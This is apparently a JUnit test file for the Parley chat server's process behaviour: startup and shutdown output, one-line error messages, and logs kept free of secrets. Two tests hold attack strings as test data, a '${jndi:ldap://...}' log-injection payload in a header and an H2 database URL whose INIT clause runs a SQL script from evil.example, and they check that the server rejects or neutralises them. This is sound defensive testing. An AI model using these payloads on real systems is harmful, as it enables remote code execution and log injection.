package dev.parley.app;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The server as whoever runs it sees it: what it says, and how it ends. */
class ServerProcessTest {

    private static final String HANDSHAKE = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
            + "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n";

    @TempDir
    Path folder;

    private Map<String, String> database = Map.of();

    @BeforeEach
    void nameTheFolder() {
        database = Map.of("PARLEY_DATA_DIR", folder.toString());
    }

    @Test
    void aUserFromTheSeededListLogsIn() throws Exception {
        SeededServer.seedThenServeThenLogIn(database);
    }

    @Test
    void g16_toldToStopItStopsInOrderAndLeavesWithZero() throws Exception {
        try (ServerProcess server = ServerProcess.start(database)) {
            assertThat(status(server.address().resolve("/health"))).isEqualTo(200);

            assertThat(server.stop()).isZero();
            assertThat(server.output())
                    .contains(
                            "Listening on " + server.address() + "/",
                            folder.resolve("parley.mv.db") + ": new database, schema version",
                            "Next: open " + server.address() + "/ and register",
                            "Stopping",
                            "Stopped")
                    .doesNotContain("WARN", "ERROR", "\tat ");
        }
        assertThat(Child.run(Child.COMMAND_LINE, database, "user", "list").code())
                .as("the file is free again")
                .isZero();
    }

    @Test
    void h16_c23_w18_theLogHoldsNoSecretAndNothingThatSomebodySent() throws Exception {
        String canary = "canary-" + System.nanoTime();
        String credentials = "{\"username\":\"alice\",\"password\":\"" + canary + " password\"}";
        try (ServerProcess server = ServerProcess.start(database, "--log-level", "debug")) {
            String token = body(server, "POST", "/api/auth/register/", credentials, "X-Canary: " + canary)
                    .path("token")
                    .asText();
            assertThat(token).isNotEmpty();
            String message = "{\"receiver\":\"alice\",\"content\":\"" + canary + " text\"}";
            assertThat(body(server, "POST", "/api/messages/", message, "Authorization: Bearer " + token)
                            .path("seq")
                            .asInt())
                    .isEqualTo(1);
            body(server, "POST", "/api/auth/login/", credentials.replace("password\"}", "wrong\"}"), "Accept: */*");
            body(server, "GET", "/api/messages/?search=" + canary, "", "Cookie: parley_session=" + canary);
            body(server, "GET", "/ws", "", HANDSHAKE + "Sec-WebSocket-Protocol: bearer, " + token);
            body(server, "GET", "/api/session", "", "User-Agent: \u001b[31m" + canary + "${jndi:ldap://x}");

            assertThat(server.stop()).isZero();

            assertThat(server.output()).doesNotContain(canary, token, "\u001b", "${jndi");
        }
    }

    private static JsonNode body(ServerProcess server, String method, String path, String body, String header)
            throws Exception {
        try (Socket socket = new Socket("127.0.0.1", server.address().getPort())) {
            byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
            String head = method + " " + path + " HTTP/1.1\r\nHost: "
                    + server.address().getAuthority()
                    + "\r\nConnection: close\r\nContent-Type: application/json\r\n" + header
                    + "\r\nContent-Length: " + bytes.length + "\r\n\r\n";
            socket.getOutputStream().write(head.getBytes(StandardCharsets.ISO_8859_1));
            socket.getOutputStream().write(bytes);
            String answer = new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
            return new ObjectMapper().readTree(answer.substring(answer.indexOf("\r\n\r\n")));
        }
    }

    @Test
    void c23_asJsonEveryLineOfTheLogIsAnObject() throws IOException {
        try (ServerProcess server = ServerProcess.start(database, "--log-format", "json")) {
            assertThat(server.stop()).isZero();
            for (String line :
                    server.output().lines().filter(l -> l.startsWith("{")).toList()) {
                JsonNode json = new ObjectMapper().readTree(line);
                assertThat(json.has("time") && json.has("level") && json.has("message"))
                        .as(line)
                        .isTrue();
            }
            assertThat(server.output()).contains("\"message\":\"Stopped\"");
        }
    }

    @Test
    void closedRegistrationSaysHowToMakeTheFirstAccount() throws Exception {
        try (ServerProcess server = ServerProcess.start(database, "--registration", "closed")) {
            server.stop();
            assertThat(server.output()).contains("registration is closed", "chat-cli user create --admin NAME");
        }
    }

    @Test
    void ofADatabaseInMemoryItIsSaidThatItWillBeForgotten() {
        Map<String, String> memory = Map.of("PARLEY_DATABASE_URL", "jdbc:h2:mem:x");
        try (ServerProcess open = ServerProcess.start(memory);
                ServerProcess closed = ServerProcess.start(memory, "--registration", "closed")) {
            open.stop();
            closed.stop();

            assertThat(open.output()).contains("in memory: all is forgotten").doesNotContain("chat-cli");
            assertThat(closed.output())
                    .contains("start with --registration open")
                    .doesNotContain("chat-cli");
        }
    }

    @Test
    void aDataFolderThatIsNoFolderIsOneLineAndOne() {
        Child child = Child.run(Child.SERVER, Map.of(), "--port", "0", "--data-dir", "/dev/null");

        failedWith(child, 1, "/dev/null is there and is no folder.");
    }

    @Test
    void aPortInUseIsOneLineAndOne() throws IOException {
        try (ServerSocket taken = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            Child child = Child.run(Child.SERVER, database, "--port", String.valueOf(taken.getLocalPort()));

            failedWith(child, 1, "Cannot listen on 127.0.0.1:" + taken.getLocalPort(), "--port");
        }
    }

    @Test
    void anAddressOfAnotherMachineIsOneLineAndOne() {
        Child child = Child.run(Child.SERVER, database, "--host", "192.0.2.1", "--port", "0");

        failedWith(child, 1, "Cannot listen on 192.0.2.1:0");
    }

    @Test
    void aLockedFileIsOneLineAndOne() {
        try (ServerProcess first = ServerProcess.start(database)) {
            Child second = Child.run(Child.SERVER, database, "--port", "0");

            failedWith(second, 1, "parley.mv.db is in use by another process");
            assertThat(first.stop()).isZero();
        }
    }

    @Test
    void aDatabaseThatDoesNotAnswerIsOneLineAndOne() {
        Child child = Child.run(Child.SERVER, Map.of(), "--database-url", "jdbc:postgresql://127.0.0.1:1/chat");

        failedWith(child, 1, "127.0.0.1:1/chat cannot be reached");
    }

    @Test
    void aSchemaThatIsTooNewIsOneLineWithBothNumbersAndOne() throws SQLException {
        assertThat(Child.run(Child.COMMAND_LINE, database, "migrate").code()).isZero();
        sql("insert into \"parley_schema_history\" select 99, '99', 'later', type, 'V99__later.sql', checksum,"
                + " installed_by, installed_on, 0, success from \"parley_schema_history\" where version = '1'");

        Child child = Child.run(Child.SERVER, database, "--port", "0");

        failedWith(child, 1, "schema version 99", "Use the newer program");
    }

    @Test
    void h19_dangerousOptionsInTheDatabaseUrlAreOneLineAndTwo() {
        String url = "jdbc:h2:file:" + folder.resolve("x") + ";INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'";

        failedWith(
                Child.run(Child.SERVER, Map.of(), "--database-url", url),
                2,
                "database-url = " + url + " (flag --database-url): ",
                "INIT is not allowed");
    }

    @Test
    void wrongAddressesAreOneLineAndTwo() {
        failedWith(
                Child.run(Child.SERVER, database, "--port", "0", "--public-url", "ftp://chat"),
                2,
                "public-url = ftp://chat (flag --public-url)");
        failedWith(
                Child.run(Child.SERVER, database, "--port", "0", "--public-url", "https://x/ch%20at"),
                2,
                "public-url = https://x/ch%20at (flag --public-url)");
        assertThat(folder).isEmptyDirectory();
        failedWith(
                Child.run(Child.SERVER, database, "--port", "0", "--trusted-proxies", "10.0.0.0/99"),
                2,
                "trusted-proxies = 10.0.0.0/99 (flag --trusted-proxies)");
    }

    private static void failedWith(Child child, int code, String... words) {
        assertThat(child.err().lines()).as(child.err()).hasSize(1);
        assertThat(child.err()).startsWith("parley: ").contains(words);
        assertThat(child.out()).isEmpty();
        assertThat(child.code()).isEqualTo(code);
    }

    private void sql(String statement) throws SQLException {
        String url = "jdbc:h2:file:" + folder.resolve("parley") + ";MODE=PostgreSQL;DATABASE_TO_LOWER=TRUE";
        try (Connection connection = DriverManager.getConnection(url, "sa", "");
                Statement insert = connection.createStatement()) {
            insert.execute(statement);
        }
    }

    private static int status(URI address) throws IOException, InterruptedException {
        return HttpClient.newHttpClient()
                .send(HttpRequest.newBuilder(address).build(), BodyHandlers.discarding())
                .statusCode();
    }
}
